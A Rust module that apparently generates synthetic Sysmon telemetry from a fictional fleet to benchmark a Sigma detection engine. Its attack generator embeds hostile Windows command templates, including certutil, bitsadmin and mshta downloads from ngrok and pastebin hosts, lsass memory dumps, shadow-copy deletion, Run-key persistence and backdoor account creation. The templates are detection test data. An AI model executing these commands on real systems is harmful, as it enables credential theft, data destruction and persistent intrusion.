//! A day of a fleet rather than one session repeated: the stream for
//! measuring what an engine costs when values rarely repeat.
//!
//! [`super::Generator`] repeats itself on purpose (15 command lines, a few
//! hashes), which is what a cache of verdicts by field values feeds on. A
//! Sigma engine must also keep pace when that cache misses, so this
//! generator varies what real fleets vary: every process has a fresh
//! random GUID, command lines carry temp paths, user names, ids, URLs and
//! numbers; images live under per-user and per-version folders; binaries
//! come in versions with their own hashes (temp binaries with fresh ones);
//! ports, addresses, registry keys, file names and DNS names are drawn per
//! event. Every Sysmon EventCode (1–29) occurs, in roughly the mix of real
//! captures (image loads, network, files and registry first), with the
//! fields Sysmon writes for it, and a share of processes follow attack
//! patterns (encoded PowerShell, LOLBins, lsass access, Run keys…) so the
//! rules' full tests run, not only their literal prefilters.
//! Deterministic for a given seed.

use super::{Rng, SynthEvent};

/// Columns of a diverse row: the Sysmon fields of every EventCode (what
/// a search with the rules' `required_fields` receives) and the CIM ones
/// lineage reads.
pub const COLUMNS: &[&str] = &[
    "_time",
    "host",
    "EventCode",
    "EventID",
    "Computer",
    "UtcTime",
    "RuleName",
    "User",
    "ProcessGuid",
    "ProcessId",
    "Image",
    "CommandLine",
    "CurrentDirectory",
    "IntegrityLevel",
    "OriginalFileName",
    "Description",
    "Product",
    "Company",
    "FileVersion",
    "Hashes",
    "ParentProcessGuid",
    "ParentProcessId",
    "ParentImage",
    "ParentCommandLine",
    "ParentUser",
    "SourceProcessGUID",
    "SourceImage",
    "SourceUser",
    "TargetProcessGUID",
    "TargetImage",
    "TargetUser",
    "GrantedAccess",
    "CallTrace",
    "StartAddress",
    "StartModule",
    "StartFunction",
    "ImageLoaded",
    "Signed",
    "Signature",
    "SignatureStatus",
    "TargetFilename",
    "CreationUtcTime",
    "TargetObject",
    "Details",
    "EventType",
    "Protocol",
    "Initiated",
    "SourceIp",
    "SourcePort",
    "DestinationIp",
    "DestinationHostname",
    "DestinationPort",
    "QueryName",
    "QueryStatus",
    "QueryResults",
    "PipeName",
    "Device",
    "Operation",
    "Name",
    "Query",
    "Consumer",
    "Destination",
    "State",
    "process_guid",
    "process_path",
    "process",
    "parent_process_guid",
    "parent_process_path",
    "parent_process",
    "process_hash",
    "dest",
];

fn col(name: &str) -> usize {
    COLUMNS
        .iter()
        .position(|c| *c == name)
        .unwrap_or_else(|| panic!("diverse column {name}"))
}

fn event() -> SynthEvent {
    SynthEvent {
        values: vec![String::new(); COLUMNS.len()],
    }
}

fn set(e: &mut SynthEvent, name: &str, value: impl Into<String>) {
    e.values[col(name)] = value.into();
}

const USERS: &[&str] = &[
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
];

const DLLS: &[&str] = &[
    "ntdll.dll",
    "kernel32.dll",
    "KernelBase.dll",
    "user32.dll",
    "advapi32.dll",
    "ws2_32.dll",
    "crypt32.dll",
    "wininet.dll",
    "winhttp.dll",
    "amsi.dll",
    "clr.dll",
    "mscoree.dll",
    "ole32.dll",
    "combase.dll",
    "bcrypt.dll",
    "dbghelp.dll",
    "samlib.dll",
    "vaultcli.dll",
    "taskschd.dll",
    "wldp.dll",
];

const DOMAINS: &[&str] = &[
    "microsoft.com",
    "windowsupdate.com",
    "office.net",
    "google.com",
    "gstatic.com",
    "github.com",
    "slack.com",
    "zoom.us",
    "akamaiedge.net",
    "corp.example.com",
    "cloudfront.net",
    "digicert.com",
];

const BAD_DOMAINS: &[&str] = &[
    "ngrok.io",
    "pastebin.com",
    "transfer.sh",
    "raw.githubusercontent.com",
    "duckdns.org",
    "onion.ly",
];

fn hex(rng: &mut Rng, n: usize) -> String {
    let mut s = String::with_capacity(n + 16);
    while s.len() < n {
        s.push_str(&format!("{:016X}", rng.next_u64()));
    }
    s.truncate(n);
    s
}

fn pick<'a>(rng: &mut Rng, from: &[&'a str]) -> &'a str {
    from[rng.below(from.len())]
}

fn random_guid(rng: &mut Rng) -> String {
    let h = hex(rng, 32);
    format!(
        "{{{}-{}-{}-{}-{}}}",
        &h[0..8],
        &h[8..12],
        &h[12..16],
        &h[16..20],
        &h[20..32]
    )
}

fn ip(rng: &mut Rng) -> String {
    if rng.chance(0.5) {
        format!(
            "10.{}.{}.{}",
            rng.below(256),
            rng.below(256),
            1 + rng.below(254)
        )
    } else {
        format!(
            "{}.{}.{}.{}",
            1 + rng.below(223),
            rng.below(256),
            rng.below(256),
            1 + rng.below(254)
        )
    }
}

/// `Hashes` for a binary: stable per `(image, version)` so a fleet has
/// many but not endless distinct hashes; `version == None` for a fresh
/// binary (every temp dropper its own).
fn hashes(rng: &mut Rng, image: &str, version: Option<u64>) -> String {
    let mut r = match version {
        Some(v) => Rng::new(image.bytes().fold(0xcbf2_9ce4_8422_2325u64 ^ v, |h, b| {
            (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
        })),
        None => Rng::new(rng.next_u64()),
    };
    let (md5, sha1, sha256, imp) = (
        hex(&mut r, 32),
        hex(&mut r, 40),
        hex(&mut r, 64),
        hex(&mut r, 32),
    );
    format!("SHA1={sha1},MD5={md5},SHA256={sha256},IMPHASH={imp}")
}

#[derive(Debug, Clone)]
struct Proc {
    guid: String,
    pid: u32,
    image: String,
    command_line: String,
    user: String,
    depth: u32,
}

/// What a new process runs: image, command line, PE metadata.
struct Program {
    image: String,
    command_line: String,
    original: &'static str,
    description: &'static str,
    company: &'static str,
    /// `None`: a binary with hashes of its own.
    version: Option<u64>,
    attack: bool,
}

/// Generates newest-first diverse Sysmon results (see the module docs).
#[derive(Debug, Clone)]
pub struct Generator {
    rng: Rng,
    hosts: Vec<String>,
    time: f64,
    /// Share of processes that follow an attack pattern.
    attack_share: f64,
}

impl Generator {
    /// A generator over `hosts` machines; `attack_share` of the processes
    /// (0.0–1.0) follow attack patterns.
    pub fn new(seed: u64, hosts: usize, attack_share: f64) -> Generator {
        Generator {
            rng: Rng::new(seed),
            hosts: (0..hosts.max(1))
                .map(|i| format!("WS{:04}", i + 1))
                .collect(),
            time: 1_700_000_000.0,
            attack_share,
        }
    }

    /// The next session on one host: its logon tree and `processes` more
    /// processes with their activity, newest first.
    pub fn block(&mut self, processes: usize) -> Vec<SynthEvent> {
        let host = self.hosts[self.rng.below(self.hosts.len())].clone();
        let user = format!("CORP\\{}", pick(&mut self.rng, USERS));
        let mut events = Vec::with_capacity(processes * 8 + 16);
        let mut parent = Proc {
            guid: "{00000000-0000-0000-0000-000000000000}".into(),
            pid: 4,
            image: "System".into(),
            command_line: String::new(),
            user: "NT AUTHORITY\\SYSTEM".into(),
            depth: 0,
        };
        let mut live = Vec::new();
        for (image, cmd) in super::BOOT_CHAIN {
            let program = Program {
                image: image.into(),
                command_line: cmd.into(),
                original: "",
                description: "",
                company: "Microsoft Corporation",
                version: Some(1),
                attack: false,
            };
            let u = if image.ends_with("explorer.exe") {
                &user
            } else {
                "NT AUTHORITY\\SYSTEM"
            };
            let p = self.spawn(&host, &parent, u.to_string(), program, &mut events);
            parent = p.clone();
            live.push(p);
        }
        for _ in 0..processes {
            let recent: Vec<&Proc> = live.iter().rev().take(16).filter(|p| p.depth < 7).collect();
            let parent = if recent.is_empty() || self.rng.chance(0.4) {
                live[3].clone()
            } else {
                recent[self.rng.below(recent.len())].clone()
            };
            let program = if self.rng.chance(self.attack_share) {
                self.attack(&user)
            } else {
                self.program(&user)
            };
            let attack = program.attack;
            let p = self.spawn(&host, &parent, user.clone(), program, &mut events);
            self.activity(&host, &p, &live, attack, &mut events);
            live.push(p);
            if live.len() > 64 {
                live.remove(4);
            }
        }
        events.reverse();
        events
    }

    fn tick(&mut self) -> (String, String) {
        self.time += 0.001 + self.rng.below(250) as f64 / 1000.0;
        let secs = self.time as u64;
        let (d, s) = (secs / 86_400, secs % 86_400);
        // Days since 1970 → a plausible date (exactness does not matter).
        let utc = format!(
            "2023-{:02}-{:02} {:02}:{:02}:{:02}.{:03}",
            1 + (d / 28) % 12,
            1 + d % 28,
            s / 3600,
            (s / 60) % 60,
            s % 60,
            ((self.time.fract()) * 1000.0) as u32
        );
        (format!("{:.3}", self.time), utc)
    }

    fn base(&mut self, host: &str, code: u32) -> SynthEvent {
        let mut e = event();
        let (t, utc) = self.tick();
        set(&mut e, "_time", t);
        set(&mut e, "UtcTime", utc);
        set(&mut e, "host", host);
        set(&mut e, "EventCode", code.to_string());
        set(&mut e, "EventID", code.to_string());
        set(&mut e, "Computer", format!("{host}.corp.example.com"));
        set(&mut e, "dest", format!("{host}.corp.example.com"));
        e
    }

    fn acting(&mut self, host: &str, code: u32, p: &Proc) -> SynthEvent {
        let mut e = self.base(host, code);
        set(&mut e, "ProcessGuid", p.guid.clone());
        set(&mut e, "ProcessId", p.pid.to_string());
        set(&mut e, "Image", p.image.clone());
        set(&mut e, "User", p.user.clone());
        set(&mut e, "process_guid", p.guid.clone());
        set(&mut e, "process_path", p.image.clone());
        e
    }

    fn spawn(
        &mut self,
        host: &str,
        parent: &Proc,
        user: String,
        program: Program,
        events: &mut Vec<SynthEvent>,
    ) -> Proc {
        let p = Proc {
            guid: random_guid(&mut self.rng),
            pid: 1000 + self.rng.below(60000) as u32,
            image: program.image,
            command_line: program.command_line,
            user,
            depth: parent.depth + 1,
        };
        let mut e = self.base(host, 1);
        let h = hashes(&mut self.rng, &p.image, program.version);
        let dir = p.image.rsplit_once('\\').map_or("C:\\", |(d, _)| d);
        set(&mut e, "ProcessGuid", p.guid.clone());
        set(&mut e, "ProcessId", p.pid.to_string());
        set(&mut e, "Image", p.image.clone());
        set(&mut e, "CommandLine", p.command_line.clone());
        set(&mut e, "CurrentDirectory", format!("{dir}\\"));
        set(&mut e, "User", p.user.clone());
        set(
            &mut e,
            "IntegrityLevel",
            if p.user.starts_with("NT AUTHORITY") {
                "System"
            } else if self.rng.chance(0.2) {
                "High"
            } else {
                "Medium"
            },
        );
        set(&mut e, "OriginalFileName", program.original);
        set(&mut e, "Description", program.description);
        set(&mut e, "Company", program.company);
        set(
            &mut e,
            "FileVersion",
            format!(
                "10.0.{}.{}",
                17763 + self.rng.below(5000),
                self.rng.below(3000)
            ),
        );
        set(&mut e, "ParentProcessGuid", parent.guid.clone());
        set(&mut e, "ParentProcessId", parent.pid.to_string());
        set(&mut e, "ParentImage", parent.image.clone());
        set(&mut e, "ParentCommandLine", parent.command_line.clone());
        set(&mut e, "ParentUser", parent.user.clone());
        set(&mut e, "process_guid", p.guid.clone());
        set(&mut e, "process_path", p.image.clone());
        set(&mut e, "process", p.command_line.clone());
        set(&mut e, "parent_process_guid", parent.guid.clone());
        set(&mut e, "parent_process_path", parent.image.clone());
        set(&mut e, "parent_process", parent.command_line.clone());
        set(&mut e, "process_hash", h.clone());
        set(&mut e, "Hashes", h);
        events.push(e);
        p
    }

    /// A benign program with varied arguments and install paths.
    fn program(&mut self, user: &str) -> Program {
        let r = &mut self.rng;
        let name = user.rsplit('\\').next().unwrap_or("user").to_string();
        let ver = r.below(8) as u64;
        let (image, command_line, original, description, company) = match r.below(16) {
            0 => {
                let v = format!(
                    "1{}.0.{}.{}",
                    r.below(10),
                    5000 + r.below(900),
                    r.below(200)
                );
                let img = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_string();
                let cmd = format!("\"{img}\" --type=renderer --field-trial-handle={},{} --lang=en-US --renderer-client-id={} --mojo-platform-channel-handle={} /prefetch:{} --version={v}",
                    r.below(9999), hex(r, 16), r.below(400), r.below(9000), 1 + r.below(8));
                (img, cmd, "chrome.exe", "Google Chrome", "Google LLC")
            }
            1 => {
                let svc = pick(
                    r,
                    &[
                        "Schedule",
                        "BITS",
                        "wuauserv",
                        "Dnscache",
                        "LanmanServer",
                        "WinHttpAutoProxySvc",
                        "CryptSvc",
                        "gpsvc",
                        "DiagTrack",
                        "EventLog",
                    ],
                );
                let group = pick(
                    r,
                    &[
                        "netsvcs",
                        "LocalService",
                        "NetworkService",
                        "LocalSystemNetworkRestricted",
                        "DcomLaunch",
                        "utcsvc",
                    ],
                );
                (
                    "C:\\Windows\\System32\\svchost.exe".into(),
                    format!("C:\\Windows\\system32\\svchost.exe -k {group} -p -s {svc}"),
                    "svchost.exe",
                    "Host Process for Windows Services",
                    "Microsoft Corporation",
                )
            }
            2 => {
                let app = pick(
                    r,
                    &[
                        "Slack", "Teams", "Zoom", "Postman", "Discord", "Notion", "Obsidian",
                    ],
                );
                let img = format!(
                    "C:\\Users\\{name}\\AppData\\Local\\{app}\\app-{}.{}.{}\\{app}.exe",
                    1 + r.below(6),
                    r.below(40),
                    r.below(20)
                );
                let cmd = format!("\"{img}\" --type=utility --utility-sub-type=network.mojom.NetworkService --user-data-dir=\"C:\\Users\\{name}\\AppData\\Roaming\\{app}\" --log-file=\"C:\\Users\\{name}\\AppData\\Local\\Temp\\{}.log\"", hex(r, 8));
                (img, cmd, "", "", "")
            }
            3 => {
                let doc = format!(
                    "{}_{}_{}.{}",
                    pick(
                        r,
                        &["Report", "Budget", "Minutes", "Offer", "Contract", "Plan"]
                    ),
                    2020 + r.below(6),
                    r.below(999),
                    pick(r, &["docx", "xlsx", "pptx", "pdf"])
                );
                let (img, orig) = match r.below(3) {
                    0 => (
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                        "WinWord.exe",
                    ),
                    1 => (
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                        "Excel.exe",
                    ),
                    _ => (
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\POWERPNT.EXE",
                        "POWERPNT.EXE",
                    ),
                };
                (
                    img.into(),
                    format!("\"{img}\" /n \"C:\\Users\\{name}\\Documents\\{doc}\""),
                    orig,
                    "Microsoft Office",
                    "Microsoft Corporation",
                )
            }
            4 => {
                let script = format!(
                    "C:\\ProgramData\\{}\\{}-{}.ps1",
                    pick(r, &["Intune", "Tanium", "SCCM", "Lenovo", "Dell"]),
                    pick(r, &["inventory", "health", "compliance", "cleanup"]),
                    r.below(100)
                );
                (
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".into(),
                    format!(
                        "powershell.exe -NoProfile -NonInteractive -File \"{script}\" -Id {}",
                        r.below(100000)
                    ),
                    "PowerShell.EXE",
                    "Windows PowerShell",
                    "Microsoft Corporation",
                )
            }
            5 => {
                let c = match r.below(5) {
                    0 => format!("cmd.exe /c \"dir C:\\Users\\{name}\\Documents\\{} /s\"", r.below(500)),
                    1 => format!("cmd.exe /c copy \"\\\\fs{}\\share\\{}.cfg\" C:\\Users\\{name}\\AppData\\Local\\", r.below(20), hex(r, 6)),
                    2 => format!("cmd.exe /c echo {} > C:\\Users\\{name}\\AppData\\Local\\Temp\\{}.tmp", hex(r, 12), hex(r, 6)),
                    3 => format!("C:\\Windows\\system32\\cmd.exe /d /s /c \"npm run build --prefix C:\\src\\{}\"", hex(r, 5)),
                    _ => format!("cmd.exe /c ping -n {} 10.{}.{}.{}", 1 + r.below(4), r.below(256), r.below(256), r.below(256)),
                };
                (
                    "C:\\Windows\\System32\\cmd.exe".into(),
                    c,
                    "Cmd.Exe",
                    "Windows Command Processor",
                    "Microsoft Corporation",
                )
            }
            6 => (
                "C:\\Windows\\System32\\conhost.exe".into(),
                format!(
                    "\\??\\C:\\Windows\\system32\\conhost.exe 0x{:x} -ForceV1",
                    r.below(1 << 31)
                ),
                "CONHOST.EXE",
                "Console Window Host",
                "Microsoft Corporation",
            ),
            7 => (
                "C:\\Windows\\System32\\dllhost.exe".into(),
                format!(
                    "C:\\Windows\\system32\\DllHost.exe /Processid:{}",
                    random_guid(r)
                ),
                "dllhost.exe",
                "COM Surrogate",
                "Microsoft Corporation",
            ),
            8 => (
                "C:\\Windows\\System32\\RuntimeBroker.exe".into(),
                "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding".into(),
                "RuntimeBroker.exe",
                "Runtime Broker",
                "Microsoft Corporation",
            ),
            9 => {
                let py = format!(
                    "C:\\Users\\{name}\\AppData\\Local\\Programs\\Python\\Python3{}\\python.exe",
                    8 + r.below(5)
                );
                let cmd = format!(
                    "\"{py}\" C:\\src\\{}\\{}.py --input data\\{}.csv --workers {}",
                    hex(r, 6),
                    pick(r, &["train", "etl", "report", "sync"]),
                    hex(r, 8),
                    1 + r.below(16)
                );
                (
                    py,
                    cmd,
                    "python.exe",
                    "Python",
                    "Python Software Foundation",
                )
            }
            10 => {
                let msi = format!(
                    "C:\\Windows\\ccmcache\\{}\\{}-{}.msi",
                    hex(r, 2),
                    pick(r, &["AcroRdr", "7zip", "VSCode", "Zoom", "Git"]),
                    r.below(100)
                );
                (
                    "C:\\Windows\\System32\\msiexec.exe".into(),
                    format!(
                        "msiexec.exe /i \"{msi}\" /qn /norestart TRANSFORMS={}.mst",
                        hex(r, 6)
                    ),
                    "msiexec.exe",
                    "Windows Installer",
                    "Microsoft Corporation",
                )
            }
            11 => {
                let setup = format!(
                    "C:\\Users\\{name}\\AppData\\Local\\Temp\\{{{}}}\\setup.exe",
                    random_guid(r).trim_matches(|c| c == '{' || c == '}')
                );
                let cmd = format!("\"{setup}\" /silent /update-id={}", r.below(1 << 30));
                return Program {
                    image: setup,
                    command_line: cmd,
                    original: "setup.exe",
                    description: "Setup",
                    company: "",
                    version: None,
                    attack: false,
                };
            }
            12 => (
                "C:\\Windows\\System32\\taskhostw.exe".into(),
                format!(
                    "taskhostw.exe {}",
                    pick(
                        r,
                        &["Install $(Arg0)", "/RuntimeWide", "SYSTEM", "-Embedding"]
                    )
                ),
                "taskhostw.exe",
                "Host Process for Windows Tasks",
                "Microsoft Corporation",
            ),
            13 => {
                let img = "C:\\Program Files\\Git\\cmd\\git.exe".to_string();
                let cmd = format!(
                    "\"{img}\" {} origin {}",
                    pick(r, &["fetch", "pull", "push", "log"]),
                    pick(r, &["main", "develop", "feature/x", "release"])
                );
                (
                    img,
                    cmd,
                    "git.exe",
                    "Git for Windows",
                    "The Git Development Community",
                )
            }
            14 => (
                "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe".into(),
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding".into(),
                "Wmiprvse.exe",
                "WMI Provider Host",
                "Microsoft Corporation",
            ),
            _ => {
                let img = format!(
                    "C:\\Program Files\\{}\\{}.exe",
                    pick(
                        r,
                        &[
                            "Mozilla Firefox",
                            "Notepad++",
                            "VideoLAN\\VLC",
                            "7-Zip",
                            "Microsoft VS Code"
                        ]
                    ),
                    pick(r, &["firefox", "notepad++", "vlc", "7zFM", "Code"])
                );
                let cmd = format!(
                    "\"{img}\" \"C:\\Users\\{name}\\Downloads\\{}.{}\"",
                    hex(r, 10),
                    pick(r, &["txt", "zip", "mp4", "json", "log"])
                );
                (img, cmd, "", "", "")
            }
        };
        Program {
            image,
            command_line,
            original,
            description,
            company,
            version: Some(ver),
            attack: false,
        }
    }

    /// A process following an attack pattern, with varied arguments.
    fn attack(&mut self, user: &str) -> Program {
        let r = &mut self.rng;
        let name = user.rsplit('\\').next().unwrap_or("user").to_string();
        let url = format!(
            "http://{}.{}/{}",
            hex(r, 6).to_lowercase(),
            pick(r, BAD_DOMAINS),
            hex(r, 8).to_lowercase()
        );
        let (image, command_line, original) = match r.below(14) {
            0 => ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", format!("powershell.exe -nop -w hidden -enc {}", hex(r, 120)), "PowerShell.EXE"),
            1 => ("C:\\Windows\\System32\\certutil.exe", format!("certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\{}.exe", hex(r, 6)), "CertUtil.exe"),
            2 => ("C:\\Windows\\System32\\rundll32.exe", format!("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} C:\\Windows\\Temp\\{}.dmp full", 600 + r.below(400), hex(r, 6)), "RUNDLL32.EXE"),
            3 => ("C:\\Windows\\System32\\reg.exe", format!("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {} /t REG_SZ /d \"C:\\Users\\{name}\\AppData\\Roaming\\{}.exe\" /f", hex(r, 6), hex(r, 6)), "reg.exe"),
            4 => ("C:\\Windows\\System32\\schtasks.exe", format!("schtasks /create /sc minute /mo {} /tn \"{}\" /tr \"C:\\Users\\{name}\\AppData\\Local\\Temp\\{}.exe\" /f", 1 + r.below(60), hex(r, 8), hex(r, 6)), "schtasks.exe"),
            5 => ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet".into(), "VSSADMIN.EXE"),
            6 => ("C:\\Windows\\System32\\wbem\\WMIC.exe", format!("wmic /node:10.{}.{}.{} process call create \"cmd.exe /c C:\\Windows\\Temp\\{}.bat\"", r.below(256), r.below(256), r.below(256), hex(r, 6)), "wmic.exe"),
            7 => ("C:\\Windows\\System32\\mshta.exe", format!("mshta.exe {url}.hta"), "MSHTA.EXE"),
            8 => ("C:\\Windows\\System32\\regsvr32.exe", format!("regsvr32.exe /s /n /u /i:{url}.sct scrobj.dll"), "REGSVR32.EXE"),
            9 => ("C:\\Windows\\System32\\bitsadmin.exe", format!("bitsadmin /transfer {} /download /priority high {url} C:\\Users\\Public\\{}.exe", hex(r, 4), hex(r, 6)), "bitsadmin.exe"),
            10 => ("C:\\Windows\\System32\\net.exe", format!("net user {} {}! /add", pick(r, &["support", "admin2", "backup", "svc_sql"]), hex(r, 10)), "net.exe"),
            11 => ("C:\\Windows\\System32\\whoami.exe", "whoami /all".into(), "whoami.exe"),
            12 => {
                let img = format!("C:\\Users\\{name}\\AppData\\Local\\Temp\\{}.exe", hex(r, 6).to_lowercase());
                let cmd = format!("\"{img}\" -accepteula -ma lsass.exe C:\\Windows\\Temp\\{}.dmp", hex(r, 6));
                return Program { image: img, command_line: cmd, original: "procdump", description: "Sysinternals process dump utility", company: "Sysinternals - www.sysinternals.com", version: None, attack: true };
            }
            _ => ("C:\\Windows\\System32\\cmd.exe", format!("cmd.exe /c \"net group \"domain admins\" /domain & nltest /dclist:{} & ipconfig /all\"", pick(r, &["corp", "corp.example.com"])), "Cmd.Exe"),
        };
        Program {
            image: image.into(),
            command_line,
            original,
            description: "",
            company: "Microsoft Corporation",
            version: Some(0),
            attack: true,
        }
    }

    /// The events a process causes: image loads, network, files, registry,
    /// DNS and the rarer codes, with per-event values.
    fn activity(
        &mut self,
        host: &str,
        p: &Proc,
        live: &[Proc],
        attack: bool,
        events: &mut Vec<SynthEvent>,
    ) {
        let name = p.user.rsplit('\\').next().unwrap_or("user").to_string();
        for _ in 0..1 + self.rng.below(5) {
            let mut e = self.acting(host, 7, p);
            let dll = pick(&mut self.rng, DLLS);
            let path = if self.rng.chance(0.7) {
                format!("C:\\Windows\\System32\\{dll}")
            } else {
                let dir = p
                    .image
                    .rsplit_once('\\')
                    .map_or("C:", |(d, _)| d)
                    .to_string();
                format!("{dir}\\{}.dll", hex(&mut self.rng, 6).to_lowercase())
            };
            let v = self.rng.below(4) as u64;
            let h = hashes(&mut self.rng, &path, Some(v));
            set(&mut e, "ImageLoaded", path);
            set(&mut e, "Hashes", h);
            set(&mut e, "Signed", "true");
            set(&mut e, "Signature", "Microsoft Windows");
            set(&mut e, "SignatureStatus", "Valid");
            events.push(e);
        }
        if self.rng.chance(0.5) {
            let mut e = self.acting(host, 3, p);
            let bad = attack && self.rng.chance(0.5);
            set(
                &mut e,
                "Protocol",
                if self.rng.chance(0.9) { "tcp" } else { "udp" },
            );
            set(&mut e, "Initiated", "true");
            set(
                &mut e,
                "SourceIp",
                format!("10.1.{}.{}", self.rng.below(256), 1 + self.rng.below(254)),
            );
            set(
                &mut e,
                "SourcePort",
                (49152 + self.rng.below(16000)).to_string(),
            );
            set(&mut e, "DestinationIp", ip(&mut self.rng));
            let port = if bad {
                pick(&mut self.rng, &["4444", "8080", "1337", "9001"]).to_string()
            } else {
                pick(
                    &mut self.rng,
                    &["443", "80", "445", "53", "3389", "8443", "5985"],
                )
                .to_string()
            };
            set(&mut e, "DestinationPort", port);
            let dom = if bad {
                pick(&mut self.rng, BAD_DOMAINS)
            } else {
                pick(&mut self.rng, DOMAINS)
            };
            set(
                &mut e,
                "DestinationHostname",
                format!("{}.{dom}", hex(&mut self.rng, 6).to_lowercase()),
            );
            events.push(e);
        }
        if self.rng.chance(0.4) {
            let mut e = self.acting(host, 11, p);
            let f = if attack && self.rng.chance(0.5) {
                format!("C:\\Users\\{name}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{}.lnk", hex(&mut self.rng, 6))
            } else {
                format!(
                    "C:\\Users\\{name}\\AppData\\Local\\{}\\{}.{}",
                    pick(
                        &mut self.rng,
                        &[
                            "Temp",
                            "Microsoft\\Windows\\INetCache",
                            "Packages",
                            "Google\\Chrome\\User Data\\Default\\Cache"
                        ]
                    ),
                    hex(&mut self.rng, 10),
                    pick(
                        &mut self.rng,
                        &["tmp", "dat", "log", "json", "db-journal", "etl"]
                    )
                )
            };
            set(&mut e, "TargetFilename", f);
            set(&mut e, "CreationUtcTime", self.tick().1);
            events.push(e);
        }
        if self.rng.chance(0.4) {
            let code = [12, 13, 13, 13, 14][self.rng.below(5)];
            let mut e = self.acting(host, code, p);
            let key = if attack && self.rng.chance(0.5) {
                format!(
                    "HKU\\S-1-5-21-{}-{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{}",
                    self.rng.below(1 << 30),
                    1000 + self.rng.below(9000),
                    hex(&mut self.rng, 6)
                )
            } else {
                format!(
                    "HKLM\\SOFTWARE\\{}\\{}\\{}",
                    pick(
                        &mut self.rng,
                        &[
                            "Microsoft\\Windows\\CurrentVersion\\Explorer",
                            "Policies\\Google\\Update",
                            "Classes\\CLSID",
                            "Microsoft\\Office\\16.0\\Common",
                            "WOW6432Node\\Vendor"
                        ]
                    ),
                    hex(&mut self.rng, 8),
                    pick(&mut self.rng, &["LastUsed", "Version", "Path", "Enabled"])
                )
            };
            set(
                &mut e,
                "EventType",
                match code {
                    12 => "CreateKey",
                    13 => "SetValue",
                    _ => "RenameKey",
                },
            );
            set(&mut e, "TargetObject", key);
            if code == 13 {
                set(
                    &mut e,
                    "Details",
                    if self.rng.chance(0.5) {
                        format!("DWORD (0x{:08x})", self.rng.below(1 << 20))
                    } else {
                        format!(
                            "C:\\Program Files\\{}\\{}.exe",
                            hex(&mut self.rng, 5),
                            hex(&mut self.rng, 5)
                        )
                    },
                );
            }
            events.push(e);
        }
        if self.rng.chance(0.3) {
            let mut e = self.acting(host, 22, p);
            let dom = if attack {
                pick(&mut self.rng, BAD_DOMAINS)
            } else {
                pick(&mut self.rng, DOMAINS)
            };
            set(
                &mut e,
                "QueryName",
                format!("{}.{dom}", hex(&mut self.rng, 6).to_lowercase()),
            );
            set(&mut e, "QueryStatus", "0");
            set(
                &mut e,
                "QueryResults",
                format!("::ffff:{};", ip(&mut self.rng)),
            );
            events.push(e);
        }
        if self.rng.chance(0.25) {
            // Process access: the *source* acts; CIM swaps it into parent_*.
            let target = live[self.rng.below(live.len())].clone();
            let lsass = attack && self.rng.chance(0.6);
            let mut e = self.base(host, 10);
            set(&mut e, "SourceProcessGUID", p.guid.clone());
            set(&mut e, "SourceImage", p.image.clone());
            set(&mut e, "SourceUser", p.user.clone());
            let (tguid, timage) = if lsass {
                (
                    random_guid(&mut self.rng),
                    "C:\\Windows\\system32\\lsass.exe".to_string(),
                )
            } else {
                (target.guid.clone(), target.image.clone())
            };
            set(&mut e, "TargetProcessGUID", tguid.clone());
            set(&mut e, "TargetImage", timage.clone());
            set(&mut e, "TargetUser", target.user.clone());
            set(
                &mut e,
                "GrantedAccess",
                if lsass {
                    "0x1010"
                } else {
                    pick(&mut self.rng, &["0x1000", "0x1400", "0x101000", "0x40"])
                },
            );
            set(&mut e, "CallTrace", format!("C:\\Windows\\SYSTEM32\\ntdll.dll+{:x}|C:\\Windows\\System32\\KERNELBASE.dll+{:x}|UNKNOWN({:016X})", self.rng.below(1 << 20), self.rng.below(1 << 20), self.rng.next_u64()));
            set(&mut e, "process_guid", tguid);
            set(&mut e, "process_path", timage);
            set(&mut e, "parent_process_guid", p.guid.clone());
            set(&mut e, "parent_process_path", p.image.clone());
            events.push(e);
        }
        if self.rng.chance(0.3) {
            events.push(self.acting(host, 5, p));
        }
        // The rarer codes, each on a small share of processes.
        let rare = self.rng.below(100);
        if rare < 16 {
            let code = [
                2, 4, 6, 8, 9, 15, 16, 17, 18, 19, 20, 21, 23, 24, 25, 26, 27, 28, 29,
            ][self.rng.below(19)];
            let mut e = self.acting(host, code, p);
            match code {
                2 | 15 | 23 | 26 | 27 | 28 | 29 => {
                    set(
                        &mut e,
                        "TargetFilename",
                        format!(
                            "C:\\Users\\{name}\\Downloads\\{}.{}",
                            hex(&mut self.rng, 8),
                            pick(&mut self.rng, &["exe", "zip", "ps1", "dll", "txt"])
                        ),
                    );
                }
                6 => {
                    set(
                        &mut e,
                        "ImageLoaded",
                        format!(
                            "C:\\Windows\\System32\\drivers\\{}.sys",
                            hex(&mut self.rng, 6).to_lowercase()
                        ),
                    );
                    set(&mut e, "Signed", "true");
                    set(
                        &mut e,
                        "Signature",
                        pick(
                            &mut self.rng,
                            &[
                                "Microsoft Windows",
                                "Intel Corporation",
                                "NVIDIA Corporation",
                            ],
                        ),
                    );
                }
                8 => {
                    let target = &live[self.rng.below(live.len())];
                    set(&mut e, "SourceProcessGUID", p.guid.clone());
                    set(&mut e, "SourceImage", p.image.clone());
                    set(&mut e, "TargetProcessGUID", target.guid.clone());
                    set(&mut e, "TargetImage", target.image.clone());
                    set(
                        &mut e,
                        "StartAddress",
                        format!("0x{:016X}", self.rng.next_u64()),
                    );
                    set(
                        &mut e,
                        "StartModule",
                        "C:\\Windows\\System32\\KERNELBASE.dll",
                    );
                    set(&mut e, "StartFunction", "LoadLibraryW");
                }
